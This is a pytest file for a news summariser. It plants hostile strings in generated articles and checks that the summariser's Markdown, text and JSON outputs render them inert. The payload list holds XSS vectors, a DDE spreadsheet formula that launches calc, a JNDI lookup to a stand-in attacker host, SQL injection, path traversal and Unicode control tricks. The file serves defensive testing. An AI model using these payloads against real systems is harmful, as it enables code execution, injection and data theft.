"""Payloads in titles, names and bodies: on every page they are text.

The wordings are our own. `SUMMARISE_HOSTILE_DATA` names a folder with `xss.jsonl` and `naughty_strings.jsonl` to try as well.
"""

import json
import os
import re
from html import unescape
from itertools import chain
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from summarize import summarise, summarise_events
from summarize.checking import explain
from summarize.render.json import load_report, render_json
from summarize.render.markdown import render_markdown
from summarize.render.several import several
from summarize.render.text import render_text
from tests.hostile.planted import plant

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "<a href='javascript:alert(1)'>here</a>",
    "<!-- --!><iframe src=//evil.example></iframe>",
    "</code></pre><script>alert(1)</script>",
    "![x](http://evil.example/?q=1)",
    "[here](javascript:alert(1))",
    "[here]: http://evil.example 'x'",
    "<http://evil.example>",
    "www.evil.example and me@evil.example",
    "http://evil.example/?a=1&b=2",
    "`code` ``more`` ```",
    "``` \n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| c | d |",
    "# heading\n## another\n> quote\n- item\n1. item",
    "[^1] and [^2]: footnote",
    "[1] [2, 3] [^3]",
    "$\\href{javascript:alert(1)}{x}$ {{ 7*7 }} {% raw %}",
    "**bold** _emph_ ~~gone~~ ***",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "\u2028<script>alert(1)</script>\u2029",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "=cmd|' /C calc'!A0 @SUM(1+1)",
    "%s %n %x {0} {} ${jndi:ldap://evil.example/a}",
    "' OR 1=1; DROP TABLE articles; --",
    "../../etc/passwd\t\\\\evil\\share",
    "Ω≈ç√∫˜µ 田中さん 👩‍👩‍👧 ́̂ Z̮̞̠͙͔",
    "\ufeff\u200b\u202eevil\u202c",
)
GIVEN = os.environ.get("SUMMARISE_HOSTILE_DATA")
FILES = {"xss.jsonl": "payload", "naughty_strings.jsonl": "string"}
AT_ONCE = 30


def batches() -> list[tuple[str, ...]]:
    given = [
        json.loads(line)[key]
        for file, key in FILES.items()
        if GIVEN
        for line in Path(GIVEN, file).read_bytes().splitlines()  # a string would part at U+2028 too
    ]
    every = [payload for payload in (*PAYLOADS, *given) if payload.strip()]
    return [tuple(every[at : at + AT_ONCE]) for at in range(0, len(every), AT_ONCE)]


def poisoned(folder: Path, payloads: tuple[str, ...]) -> Path:
    """The story with a payload in each paragraph, title and name of more articles."""
    plant(folder)
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    for number, payload in enumerate(payloads):
        line = " ".join(payload.split())
        body = f"The passenger ferry {line} ran aground off Tarn Point on Monday evening.\n\n{payload}\n\n{line} said so."
        text = f"Ferry {line} aground\n\n{body}\n\nOfficer “{line}” Vale said the crew of {number} was {line} safe.\n"
        (folder / f"p{number}.txt").write_bytes(text.encode("utf-8", "surrogatepass"))
        outlet = f"Post {line} {number}"
        manifest["articles"].append({"file": f"p{number}.txt", "outlet": outlet, "published": "2024-05-07"})
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return folder


@pytest.mark.parametrize("payloads", batches(), ids=lambda payloads: repr(payloads[0][:20]))
def test_every_page_shows_payloads_as_text(payloads: tuple[str, ...], tmp_path: Path) -> None:
    report = summarise([poisoned(tmp_path, payloads)])
    assert len(report.articles) > 4
    markdown = render_markdown(report)
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    blocks = parser.parse(markdown)
    inline = list(chain.from_iterable(token.children or () for token in blocks))
    assert not {token.type for token in (*blocks, *inline)} & {
        "html_block",
        "html_inline",
        "link_open",
        "image",
        "fence",
        "code_block",
        "s_open",
        "hr",
    }
    assert not re.search(
        r"<(?!/?(?:h\d|p|em|strong|ul|ol|li|table|thead|tbody|tr|th|td|code|br)\b)", parser.render(markdown)
    )
    text, explained = render_text(report), explain(report, [group.id for group in report.groups])
    controls = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b\ufeff]")
    assert not controls.search(markdown + text + explained)
    as_json = render_json(report)
    assert not controls.search(as_json)
    assert load_report(as_json) == report


def test_what_is_shown_is_what_was_written(tmp_path: Path) -> None:
    """Escaping loses nothing: a reader of the rendered Markdown sees the payload's own characters."""
    payload = "<script>alert(1)</script>"
    html = MarkdownIt("commonmark").render(render_markdown(summarise([poisoned(tmp_path, (payload,))])))
    assert payload in unescape(html)
    assert "<script" not in html


def test_several_reports_on_one_page_are_as_inert(tmp_path: Path) -> None:
    folder = poisoned(tmp_path, PAYLOADS[:12])
    (folder / "mine.txt").write_text(
        "Miners <b>trapped</b>\n\nA tunnel collapsed in the Grover coal mine before dawn and trapped nine miners.\n\n"
        "Union leader Marta Quill said the props in the tunnel of the mine were ![x](http://evil.example) rotten.\n",
        encoding="utf-8",
    )
    reports = summarise_events([folder])
    page = several(reports, [render_markdown(report) for report in reports], markdown=True)
    inline = chain.from_iterable(token.children or () for token in MarkdownIt("commonmark").parse(page))
    assert not {token.type for token in inline} & {"html_inline", "link_open", "image"}
